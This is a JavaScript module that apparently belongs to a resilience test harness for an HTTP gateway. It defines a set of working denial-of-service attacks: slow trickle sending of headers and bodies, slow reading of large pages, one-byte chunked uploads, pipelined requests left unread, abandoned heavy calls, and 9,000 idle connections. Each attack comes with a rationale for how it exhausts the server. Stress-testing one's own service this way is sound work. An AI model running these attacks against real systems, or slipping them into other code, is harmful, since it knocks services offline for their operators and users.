// Bad HTTP clients: they do not read, or send one byte at a time.
import { connect } from 'node:net';
import { HEAVY, bodyOf, prepareHeavyPages } from './calls.mjs';

/** @typedef {import('../neighbour-system.ts').Target} Target */

/** How often connections that were closed are made again. */
const AGAIN_MS = 200;
const DRIP_MS = 1000;
const DRIP_BYTES = 1024;

/** A number of connections. Each is reopened when it is closed. */
class Sockets {
  opened = 0;
  closed = 0;
  sent = 0;
  received = 0;
  /** @type {Set<import('node:net').Socket>} */
  #open = new Set();
  #timer;

  /**
   * @param {Target} target
   * @param {number} count
   * @param {(socket: import('node:net').Socket, sockets: Sockets) => void} use is given each new connection
   */
  constructor({ gatewayUrl }, count, use) {
    const { hostname, port } = new URL(gatewayUrl);
    const fill = () => {
      while (this.#open.size < count) {
        const socket = connect({ host: hostname, port: Number(port), noDelay: true });
        this.#open.add(socket);
        this.opened++;
        socket.on('error', () => {});
        socket.on('data', ({ length }) => (this.received += length));
        socket.on('close', () => {
          this.closed++;
          this.#open.delete(socket);
        });
        use(socket, this);
      }
    };
    fill();
    this.#timer = setInterval(fill, AGAIN_MS);
  }

  stop() {
    clearInterval(this.#timer);
    const { opened, closed, sent, received } = this;
    this.#open.forEach((socket) => socket.destroy());
    return `${opened} connections, ${closed} closed meanwhile, ${sent} calls, ${(received / 1024 / 1024).toFixed(1)} MiB read`;
  }
}

/** @param {string} path @param {object} headers @param {string} body */
const callOf = (path, headers, body) =>
  [
    `POST /v1/${path} HTTP/1.1`,
    'host: attacker',
    'content-type: application/json',
    ...Object.entries(headers).map(([name, value]) => `${name}: ${value}`),
    `content-length: ${Buffer.byteLength(body)}`,
    '',
    body,
  ].join('\r\n');

/** A call whose body of 1 MiB comes in chunks of one byte. @param {object} headers */
const ofOneByteChunks = (headers) =>
  callOf('notifications/add', { ...headers, 'transfer-encoding': 'chunked' }, '').replace('content-length: 0\r\n', '');
const ONE_BYTE_CHUNKS = Buffer.from(`${'1\r\n \r\n'.repeat(1024 * 1024)}0\r\n\r\n`);

/** @param {Target} options */
const heavyCall = ({ tenant }) => callOf('notifications/get', tenant, bodyOf({ ...HEAVY, pageSize: 1000 }));

/** @param {string} who @param {(target: Target) => object} headersOf @returns {import('./all.mjs').Attack} */
const oneByteChunks = (who, headersOf) => ({
  name: `bodies in one-byte chunks, ${who}`,
  seconds: 10,
  why: 'Each chunk costs the gateway as much as kilobytes: 1 MiB in chunks of one byte, one after the other, on 20 connections.',
  start: (target) =>
    new Sockets(target, 20, (socket, sockets) => {
      const next = () => {
        if (socket.destroyed) return;
        socket.write(ofOneByteChunks(headersOf(target)));
        sockets.sent++;
        socket.write(ONE_BYTE_CHUNKS, next);
      };
      next();
    }),
});

/** @type {import('./all.mjs').Attack[]} */
export const HTTP_SOCKETS = [
  oneByteChunks('with a key', ({ tenant }) => tenant),
  oneByteChunks('without credentials', () => ({})),
  {
    name: 'pipelining without reading',
    why: 'Unread answers occupy places and memory: 1,100 pages of 4 MiB on 20 connections.',
    prepare: prepareHeavyPages,
    start: (target) =>
      new Sockets(target, 20, (socket, sockets) => {
        socket.pause();
        for (let call = 0; call < 55; call++) socket.write(heavyCall(target));
        sockets.sent += 55;
      }),
  },
  {
    name: 'trickle reading',
    why: 'A page of 4 MiB that is read at 1 KiB a second, on 200 connections.',
    prepare: prepareHeavyPages,
    start: (target) =>
      new Sockets(target, 200, (socket, sockets) => {
        socket.pause();
        socket.write(heavyCall(target));
        sockets.sent++;
        const drip = setInterval(() => socket.read(DRIP_BYTES), DRIP_MS);
        socket.on('close', () => clearInterval(drip));
      }),
  },
  {
    name: 'trickle sending',
    why: 'Calls that arrive at one byte per second, in the headers or in the body, on 500 connections.',
    start: (target) =>
      new Sockets(target, 500, (socket, sockets) => {
        const whole = callOf('notifications/add', target.tenant, ' '.repeat(1000));
        const begin = sockets.opened % 2 ? 60 : whole.length - 1000;
        socket.write(whole.slice(0, begin));
        sockets.sent++;
        let at = begin;
        const drip = setInterval(() => socket.write(whole[at++ % whole.length]), DRIP_MS);
        socket.on('close', () => clearInterval(drip));
      }),
  },
  {
    name: 'documentation that nobody reads',
    seconds: 10,
    why: 'The documentation needs no credentials, and its script is large.',
    start: (target) =>
      new Sockets(target, 500, (socket, sockets) => {
        socket.pause();
        for (let call = 0; call < 20; call++)
          socket.write(
            'GET /docs/swagger-ui-bundle.js HTTP/1.1\r\nhost: attacker\r\n\r\nGET /openapi.json HTTP/1.1\r\nhost: attacker\r\n\r\n',
          );
        sockets.sent += 40;
      }),
  },
  {
    name: 'calls given up half way',
    seconds: 10,
    why: 'A client that leaves does not stop the work of its call: a call for a heavy page, then the end of the connection.',
    prepare: prepareHeavyPages,
    start: (target) =>
      new Sockets(target, 20, (socket, sockets) => {
        socket.write(heavyCall(target));
        sockets.sent++;
        setTimeout(() => socket.destroy(), 20 + Math.random() * 200);
      }),
  },
  {
    name: 'connections opened and left',
    seconds: 10,
    why: 'Each costs an accept, and all clients share the limit of connections: 9,000 that only stay open.',
    start: (target) => new Sockets(target, 9000, () => {}),
  },
];
